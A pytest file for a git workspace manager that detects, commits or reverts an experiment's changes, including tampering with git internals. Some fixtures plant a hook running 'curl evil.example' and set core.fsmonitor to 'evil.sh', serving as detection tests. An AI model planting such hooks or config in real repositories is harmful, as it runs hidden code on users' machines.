"""Workspace against real git repositories: what an experiment changed, keep, and revert."""

import os
import subprocess
import time

import pytest

from conftest import git
from overnight.errors import WorkspaceError
from overnight.workspace import STATE_DIR, Workspace


@pytest.fixture
def repo(make_repo):
    return make_repo({"README.md": "# project\n", "src/model.py": "LAYERS = 2\n"})


@pytest.fixture
def ws(repo):
    return Workspace(repo)


def change_after(ws, act):
    before = ws.state()
    act()
    change, _ = ws.change_since(before)
    return change


def status(root):
    """``git status --porcelain`` lines, leading spaces kept."""
    result = subprocess.run(
        ["git", "status", "--porcelain", "--untracked-files=all"],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout.rstrip("\n")


# -- opening ---------------------------------------------------------------------------------


def test_opens_the_repository_root(repo):
    ws = Workspace(repo)

    assert ws.root == repo.resolve()
    assert ws.git_dir == (repo / ".git").resolve()
    assert ws.head() == git(repo, "rev-parse", "HEAD")
    assert ws.current_branch() == "main"


def test_not_a_repository(tmp_path, monkeypatch):
    plain = tmp_path / "plain"
    plain.mkdir()
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))

    with pytest.raises(WorkspaceError, match="is not inside a git repository") as caught:
        Workspace(plain)
    assert str(plain) in str(caught.value)


def test_repository_without_commits(tmp_path):
    git(tmp_path, "init", "-q")

    with pytest.raises(WorkspaceError, match="no commit yet"):
        Workspace(tmp_path)


def test_subdirectory_of_a_repository(repo):
    with pytest.raises(
        WorkspaceError, match="must sit at the root of the git repository"
    ) as caught:
        Workspace(repo / "src")
    assert str(repo.resolve()) in str(caught.value)


def test_git_failure_is_a_workspace_error(ws):
    with pytest.raises(WorkspaceError, match="git show failed"):
        ws.show("HEAD", "no-such-file.txt")


# -- setup -----------------------------------------------------------------------------------


def test_exclude_state_dir_writes_the_exclude_once_and_leaves_gitignore_alone(repo, ws):
    (repo / ".gitignore").write_text("*.pyc\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore")
    exclude = repo / ".git" / "info" / "exclude"
    exclude.write_text("# user's own\n*.tmp")

    ws.exclude_state_dir()
    ws.exclude_state_dir()

    assert exclude.read_text() == "# user's own\n*.tmp\n/.overnight/\n"
    assert (repo / ".gitignore").read_text() == "*.pyc\n"
    (repo / STATE_DIR / "logs").mkdir(parents=True)
    (repo / STATE_DIR / "logs" / "eval.log").write_text("x\n")
    assert status(repo) == ""
    assert ws.state().entries == {}


def test_exclude_state_dir_creates_a_missing_exclude_file(repo, ws):
    exclude = repo / ".git" / "info" / "exclude"
    exclude.unlink(missing_ok=True)

    ws.exclude_state_dir()

    assert exclude.read_text() == "/.overnight/\n"
    assert not (repo / ".gitignore").exists()


def test_files_lists_tracked_and_untracked_but_not_ignored(repo, ws):
    (repo / "notes.txt").write_text("mine\n")
    (repo / "build").mkdir()
    (repo / "build" / "out.bin").write_text("x")
    (repo / ".git" / "info" / "exclude").write_text("build/\n")

    assert ws.files() == [
        "README.md",
        "notes.txt",
        "overnight.yaml",
        "score.py",
        "src/model.py",
        "value.txt",
    ]


def test_show_and_dirty(repo, ws):
    (repo / "value.txt").write_text("2.0\n")

    assert ws.show("HEAD", "value.txt") == "1.0\n"
    assert ws.dirty(["value.txt", "README.md"]) == ["value.txt"]


# -- what changed ------------------------------------------------------------------------------


def test_clean_tree_has_an_empty_change(ws):
    change = change_after(ws, lambda: None)

    assert change.empty
    assert change.paths == []


def test_detects_a_modified_file(repo, ws):
    change = change_after(ws, lambda: (repo / "value.txt").write_text("2.0\n"))

    assert change.paths == ["value.txt"]
    assert not change.head_moved
    assert change.internals == change.symlinks == change.deleted == []
    assert not change.empty


def test_detects_a_new_file_in_a_new_directory(repo, ws):
    def add():
        (repo / "src" / "layers").mkdir()
        (repo / "src" / "layers" / "attention.py").write_text("HEADS = 4\n")

    assert change_after(ws, add).paths == ["src/layers/attention.py"]


def test_detects_a_deleted_file(repo, ws):
    change = change_after(ws, (repo / "README.md").unlink)

    assert change.paths == ["README.md"]
    assert change.deleted == ["README.md"]


def test_detects_a_rename_with_git_mv(repo, ws):
    change = change_after(ws, lambda: git(repo, "mv", "src/model.py", "src/net.py"))

    assert change.paths == ["src/model.py", "src/net.py"]
    assert change.deleted == ["src/model.py"]


def test_detects_a_file_swapped_for_a_symlink(repo, ws):
    def swap():
        (repo / "value.txt").unlink()
        os.symlink("score.py", repo / "value.txt")

    change = change_after(ws, swap)

    assert change.paths == ["value.txt"]
    assert change.symlinks == ["value.txt"]


def test_detects_a_second_edit_of_an_already_dirty_file(repo, ws):
    (repo / "value.txt").write_text("2.0\n")
    before = ws.state()
    time.sleep(0.05)

    (repo / "value.txt").write_text("3.0\n")
    change, after = ws.change_since(before)

    assert change.paths == ["value.txt"]
    assert after.entries.keys() == before.entries.keys()


def test_detects_an_edit_that_reverts_a_dirty_file(repo, ws):
    (repo / "value.txt").write_text("2.0\n")

    change = change_after(ws, lambda: (repo / "value.txt").write_text("1.0\n"))

    assert change.paths == ["value.txt"]


def test_user_dirty_files_that_stay_untouched_are_not_in_the_change(repo, ws):
    (repo / "notes.txt").write_text("mine\n")
    (repo / "README.md").write_text("# edited by the user\n")

    change = change_after(ws, lambda: (repo / "value.txt").write_text("2.0\n"))

    assert change.paths == ["value.txt"]


def test_detects_a_new_commit(repo, ws):
    def commit():
        (repo / "value.txt").write_text("2.0\n")
        git(repo, "commit", "-q", "-am", "agent commits on its own")

    change = change_after(ws, commit)

    assert change.head_moved
    assert change.paths == ["value.txt"]
    assert not change.empty


def test_detects_a_branch_switch(repo, ws):
    change = change_after(ws, lambda: git(repo, "switch", "-q", "-c", "elsewhere"))

    assert change.head_moved
    assert change.paths == []


@pytest.mark.parametrize("name", ["hooks/pre-commit", "hooks/post-checkout", "info/attributes"])
def test_detects_a_changed_git_internal_file(repo, ws, name):
    def plant():
        target = repo / ".git" / name
        target.write_text("#!/bin/sh\ncurl evil.example\n")
        target.chmod(0o755)

    change = change_after(ws, plant)

    assert change.internals == [f".git/{name}"]
    assert change.paths == []
    assert not change.empty


def test_detects_a_changed_git_config(repo, ws):
    change = change_after(ws, lambda: git(repo, "config", "core.fsmonitor", "evil.sh"))

    assert change.internals == [".git/config"]


def test_state_to_json(repo, ws):
    (repo / "notes.txt").write_text("mine\n")

    data = ws.state().to_json()

    assert data == {"head": ws.head(), "branch": "main", "paths": ["notes.txt"]}


# -- keep ------------------------------------------------------------------------------------


def test_stage_and_diff_returns_the_change(repo, ws):
    def edit():
        (repo / "value.txt").write_text("2.0\n")
        (repo / "extra.txt").write_text("new file\n")

    change = change_after(ws, edit)

    diff = ws.stage_and_diff(change)

    assert "diff --git a/value.txt b/value.txt" in diff
    assert "-1.0\n+2.0\n" in diff
    assert "+new file\n" in diff
    assert "README.md" not in diff


def test_stage_and_diff_of_nothing_is_empty(ws):
    assert ws.stage_and_diff(change_after(ws, lambda: None)) == ""


def test_stage_and_diff_shows_a_rename(repo, ws):
    change = change_after(ws, lambda: (repo / "README.md").rename(repo / "README.txt"))

    diff = ws.stage_and_diff(change)

    assert "rename from README.md" in diff
    assert "rename to README.txt" in diff


def test_commit_commits_only_the_changed_paths(repo, ws):
    (repo / "notes.txt").write_text("user's staged work\n")
    git(repo, "add", "notes.txt")
    parent = ws.head()

    change = change_after(ws, lambda: (repo / "value.txt").write_text("2.0\n"))
    ws.stage_and_diff(change)
    commit = ws.commit(change, "raise value to 2.0")

    assert commit == ws.head() != parent
    assert git(repo, "log", "-1", "--format=%s") == "raise value to 2.0"
    assert git(repo, "rev-parse", "HEAD~1") == parent
    assert git(repo, "show", "--name-only", "--format=", "HEAD") == "value.txt"
    assert git(repo, "diff", "--cached", "--name-only") == "notes.txt"
    assert status(repo) == "A  notes.txt"


def test_commit_does_not_run_the_users_hooks(repo, ws):
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho refused >&2\nexit 1\n")
    hook.chmod(0o755)

    change = change_after(ws, lambda: (repo / "value.txt").write_text("2.0\n"))
    ws.stage_and_diff(change)
    ws.commit(change, "kept")

    assert ws.show("HEAD", "value.txt") == "2.0\n"


def test_commit_of_a_deletion_and_a_new_file(repo, ws):
    def edit():
        (repo / "README.md").unlink()
        (repo / "NEW.md").write_text("new\n")

    change = change_after(ws, edit)
    ws.stage_and_diff(change)
    ws.commit(change, "swap readme")

    assert git(repo, "ls-files").splitlines() == [
        "NEW.md",
        "overnight.yaml",
        "score.py",
        "src/model.py",
        "value.txt",
    ]
    assert status(repo) == ""


# -- revert ----------------------------------------------------------------------------------


def test_restore_undoes_modified_new_and_deleted_files(repo, ws):
    (repo / "notes.txt").write_text("user's untracked file\n")
    best = ws.head()
    before = ws.state()

    (repo / "value.txt").write_text("2.0\n")
    (repo / "src" / "new_module.py").write_text("X = 1\n")
    (repo / "README.md").unlink()
    change, _ = ws.change_since(before)
    ws.stage_and_diff(change)

    lost = ws.restore(change, best, "main", before=before, staged=True)

    assert lost == []
    assert (repo / "value.txt").read_text() == "1.0\n"
    assert not (repo / "src" / "new_module.py").exists()
    assert (repo / "README.md").read_text() == "# project\n"
    assert (repo / "notes.txt").read_text() == "user's untracked file\n"
    assert status(repo) == "?? notes.txt"
    assert ws.head() == best


def test_restore_of_unstaged_changes_including_a_git_rm(repo, ws):
    best = ws.head()

    def edit():
        (repo / "value.txt").write_text("2.0\n")
        (repo / "new.txt").write_text("new\n")
        git(repo, "rm", "-q", "README.md")

    change = change_after(ws, edit)
    lost = ws.restore(change, best, "main")

    assert lost == []
    assert (repo / "value.txt").read_text() == "1.0\n"
    assert not (repo / "new.txt").exists()
    assert (repo / "README.md").read_text() == "# project\n"
    assert status(repo) == ""


def test_restore_undoes_a_symlink_swap_and_a_rename(repo, ws):
    best = ws.head()

    def edit():
        (repo / "value.txt").unlink()
        os.symlink("score.py", repo / "value.txt")
        git(repo, "mv", "src/model.py", "src/net.py")

    change = change_after(ws, edit)
    ws.restore(change, best, "main")

    assert not (repo / "value.txt").is_symlink()
    assert (repo / "value.txt").read_text() == "1.0\n"
    assert (repo / "src" / "model.py").read_text() == "LAYERS = 2\n"
    assert not (repo / "src" / "net.py").exists()
    assert status(repo) == ""


def test_restore_after_the_agent_committed_resets_the_branch(repo, ws):
    best = ws.head()

    def commit():
        (repo / "value.txt").write_text("2.0\n")
        (repo / "added.txt").write_text("x\n")
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "agent commit")

    change = change_after(ws, commit)
    ws.restore(change, best, "main")

    assert ws.head() == best
    assert git(repo, "rev-parse", "main") == best
    assert ws.current_branch() == "main"
    assert (repo / "value.txt").read_text() == "1.0\n"
    assert not (repo / "added.txt").exists()
    assert status(repo) == ""


def test_restore_after_the_agent_switched_branch(repo, ws):
    best = ws.head()

    def switch():
        git(repo, "switch", "-q", "-c", "elsewhere")
        (repo / "value.txt").write_text("2.0\n")
        git(repo, "commit", "-q", "-am", "on another branch")

    change = change_after(ws, switch)
    ws.restore(change, best, "main")

    assert ws.current_branch() == "main"
    assert ws.head() == best
    assert (repo / "value.txt").read_text() == "1.0\n"
    assert status(repo) == ""


def test_backup_and_restore_put_back_a_users_files_that_an_experiment_overwrote(repo, ws, tmp_path):
    (repo / "notes.txt").write_text("user's untracked notes\n")
    (repo / "README.md").write_text("# user's uncommitted edit\n")
    best = ws.head()
    before = ws.state()
    backup = tmp_path / "backup"

    assert ws.backup_user_files(before, skip=[], into=backup) == []
    (repo / "notes.txt").write_text("trampled\n")
    (repo / "README.md").unlink()
    (repo / "value.txt").write_text("2.0\n")
    change, _ = ws.change_since(before)
    ws.stage_and_diff(change)

    lost = ws.restore(change, best, "main", before=before, backup=backup, staged=True)

    assert lost == []
    assert (repo / "notes.txt").read_text() == "user's untracked notes\n"
    assert (repo / "README.md").read_text() == "# user's uncommitted edit\n"
    assert (repo / "value.txt").read_text() == "1.0\n"
    assert status(repo).splitlines() == [" M README.md", "?? notes.txt"]


def test_restore_without_a_backup_reports_the_users_file_as_lost(repo, ws):
    (repo / "notes.txt").write_text("user's notes\n")
    best = ws.head()
    before = ws.state()

    (repo / "notes.txt").write_text("trampled\n")
    change, _ = ws.change_since(before)

    assert ws.restore(change, best, "main", before=before) == ["notes.txt"]


def test_restore_removes_a_planted_hook_and_reports_a_changed_config(repo, ws):
    best = ws.head()
    before = ws.state()

    def tamper():
        hook = repo / ".git" / "hooks" / "pre-commit"
        hook.write_text("#!/bin/sh\nexit 0\n")
        git(repo, "config", "core.fsmonitor", "evil.sh")

    change = change_after(ws, tamper)
    lost = ws.restore(change, best, "main", before=before)

    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert lost == [".git/config"]


def test_restore_puts_back_a_changed_config_from_the_internals_backup(repo, ws, tmp_path):
    backup = tmp_path / "backup"
    ws.protect_internals(backup)
    original = (repo / ".git" / "config").read_bytes()
    best = ws.head()
    before = ws.state()

    change = change_after(ws, lambda: git(repo, "config", "core.fsmonitor", "evil.sh"))
    assert change.internals == [".git/config"]
    assert (repo / ".git" / "config").read_bytes() == original  # put back before git ran again
    assert ws.restore(change, best, "main", before=before, backup=backup) == []


def test_backup_skips_listed_symlinked_and_large_files(repo, ws, tmp_path):
    (repo / "notes.txt").write_text("small\n")
    (repo / "big.bin").write_bytes(b"x" * 2000)
    (repo / "skip.txt").write_text("skip me\n")
    os.symlink("notes.txt", repo / "link.txt")
    backup = tmp_path / "backup"

    too_large = ws.backup_user_files(
        ws.state(), skip=["skip.txt"], into=backup, max_file_bytes=1000
    )

    assert too_large == ["big.bin"]
    assert sorted(p.name for p in backup.rglob("*")) == ["notes.txt"]
    assert (backup / "notes.txt").read_text() == "small\n"


def test_reset_branch_moves_the_branch_without_touching_files(repo, ws):
    best = ws.head()
    (repo / "value.txt").write_text("2.0\n")
    git(repo, "commit", "-q", "-am", "later")
    (repo / "notes.txt").write_text("mine\n")

    ws.reset_branch("main", best)

    assert ws.head() == best
    assert (repo / "value.txt").read_text() == "2.0\n"
    assert (repo / "notes.txt").read_text() == "mine\n"


def test_create_and_switch_branches(ws):
    ws.create_branch("overnight/night1")

    assert ws.current_branch() == "overnight/night1"
    assert ws.branch_exists("overnight/night1")
    assert not ws.branch_exists("overnight/other")
    ws.switch("main")
    assert ws.current_branch() == "main"


def test_protect_internals_on_resume_puts_back_what_a_killed_run_left(repo, ws, tmp_path):
    backup = tmp_path / "backup"
    assert ws.protect_internals(backup) == []
    original = (repo / ".git" / "config").read_bytes()
    git(repo, "config", "core.fsmonitor", "evil.sh")
    (repo / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")

    restored = ws.protect_internals(backup)

    assert sorted(restored) == [".git/config", ".git/hooks/post-checkout"]
    assert (repo / ".git" / "config").read_bytes() == original
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
